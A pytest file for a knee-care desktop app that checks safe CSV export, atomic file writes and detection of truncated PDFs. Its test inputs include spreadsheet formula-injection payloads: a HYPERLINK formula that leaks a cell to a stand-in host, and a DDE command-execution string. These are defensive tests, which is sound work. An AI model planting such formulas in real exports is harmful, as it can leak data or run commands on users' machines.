"""Files written whole or not at all, checked; CSV cells that never run as formulas."""

from __future__ import annotations

import csv
import errno
import io
import os
from pathlib import Path

import pytest

from kneecare_desktop import safe_files
from kneecare_desktop.history import export as history_export, report_data as report
from kneecare_desktop.history.store import HistoryStore
from kneecare_desktop.safe_files import WriteFailedError, csv_cell, pdf_problem
from tests.unit.history_helpers import block, start

HOSTILE = ['=HYPERLINK("http://x.example/?leak="&A1,"y")', "=1+1", "+1", "-1", "@SUM(A1)",
           "\tTab", "\rCR"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_becomes_plain_text(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -2.5, 0, 7, "a note", "", "1+1", "'quoted"])
def test_numbers_and_ordinary_text_are_left_as_they_are(value: object) -> None:
    assert csv_cell(value) == value




def test_history_csv_neutralises_notes_and_titles_but_json_stays_raw(tmp_path: Path) -> None:
    store, _ = HistoryStore.open(tmp_path / "h.sqlite3")
    person = store.default_person()
    begin = start(person.id)
    store.begin_session(begin)
    store.add_block(block(begin.uid, 1))
    store.set_pain(begin.uid, before=3, after=5, note="=1+1")
    sessions = store.sessions(person.id)
    blocks = store.blocks([s.id for s in sessions])
    out, _blocks, _checkins = history_export.write_csv(sessions, blocks, tmp_path / "x.csv")
    with out.open(encoding="utf-8-sig", newline="") as stream:
        (row,) = list(csv.DictReader(stream))
    assert row["note"] == "'=1+1"
    assert row["pain_before"] == "3"
    data = history_export.to_json(sessions, blocks)
    assert '"note": "=1+1"' in data


def test_report_csv_neutralises_the_person_name_and_notes(tmp_path: Path) -> None:
    from datetime import date

    store, _ = HistoryStore.open(tmp_path / "h.sqlite3")
    person = store.default_person()
    begin = start(person.id)
    store.begin_session(begin)
    store.set_pain(begin.uid, note='=HYPERLINK("http://x.example/","y")')
    data = report.gather(store, person, date(2026, 10, 1), date(2026, 11, 30))
    rows = list(csv.reader(io.StringIO(report.report_csv(data, "-Sato"))))
    assert ["person", "'-Sato"] in rows
    assert any(cell == "'=HYPERLINK(\"http://x.example/\",\"y\")" for row in rows for cell in row)


def test_a_failed_write_keeps_the_earlier_file_and_leaves_no_temporary(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "export.csv"
    target.write_text("the good one", encoding="utf-8")

    def no_space(_descriptor: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(safe_files.os, "fsync", no_space)
    with pytest.raises(WriteFailedError) as caught:
        safe_files.write_text(target, "new contents")
    assert target.read_text(encoding="utf-8") == "the good one"
    assert [p.name for p in folder.iterdir()] == ["export.csv"]
    assert "No space left on device" in caught.value.message(safe_files.Lang.EN)
    assert str(target) in caught.value.message(safe_files.Lang.JA)


def test_files_that_belong_together_are_all_written_or_none(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    first, second = folder / "a.csv", folder / "b.csv"
    first.write_text("old a", encoding="utf-8")
    second.write_text("old b", encoding="utf-8")
    real = safe_files._write_checked
    calls: list[Path] = []

    def fail_second(temporary: Path, data: bytes) -> str | None:
        calls.append(temporary)
        return real(temporary, data) if len(calls) == 1 else "disk full"

    monkeypatch.setattr(safe_files, "_write_checked", fail_second)
    with pytest.raises(WriteFailedError):
        safe_files.write_many([(first, b"new a"), (second, b"new b")])
    assert first.read_text(encoding="utf-8") == "old a"
    assert second.read_text(encoding="utf-8") == "old b"
    assert sorted(p.name for p in folder.iterdir()) == ["a.csv", "b.csv"]


def test_a_truncated_pdf_is_refused(tmp_path: Path) -> None:
    good = (b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\nxref\n0 1\n0000000000 65535 f \n"
            b"trailer\n<<>>\nstartxref\n")
    offset = good.index(b"xref")
    whole = good + str(offset).encode() + b"\n%%EOF\n"
    path = tmp_path / "a.pdf"
    path.write_bytes(whole)
    assert pdf_problem(path) is None
    path.write_bytes(whole[: len(whole) // 2])
    assert pdf_problem(path) is not None
    path.write_bytes(whole.replace(b"xref\n0 1", b"junk\n0 1"))
    assert pdf_problem(path) is not None


@pytest.mark.parametrize("offset", [540, 0, -150, 345, -600])
def test_the_blocks_read_into_cells_by_sqlite_are_the_ones_python_makes(
        tmp_path: Path, offset: int) -> None:
    from datetime import datetime, timedelta, timezone

    store, _ = HistoryStore.open(tmp_path / "h.sqlite3")
    person = store.default_person()
    zone = timezone(timedelta(minutes=offset))
    for day, routine in enumerate(["=cmd|' /C calc'!A0", "-2+3", "hamstring-towel", "@x"]):
        when = datetime(2026, 3, 28 + day, 23, 59, 59, 999_000, tzinfo=zone)
        begin = start(person.id, when)
        store.begin_session(begin)
        for seq in (1, 2, 3):
            entry = block(begin.uid, seq, when)
            store.add_block(entry._replace(
                routine_id=routine, attempt=seq, actual_seconds=19.987 * seq,
                ended=when + timedelta(seconds=30 * seq, microseconds=seq * 333_000)))
    sessions = store.sessions(person.id)
    blocks = store.blocks([s.id for s in sessions])
    for chosen in ([], sessions[1::2], sessions):
        made_here = history_export.write_csv(chosen, blocks, tmp_path / "python.csv")
        made_there = history_export.write_csv_from(store, chosen, tmp_path / "sqlite.csv")
        assert [p.read_bytes() for p in made_here] == [p.read_bytes() for p in made_there]
        assert (history_export.csv_sections(chosen, blocks)
                == history_export.csv_sections_from(store, chosen))
    text = (tmp_path / "sqlite-blocks.csv").read_text(encoding="utf-8-sig")
    assert "'=cmd|" in text
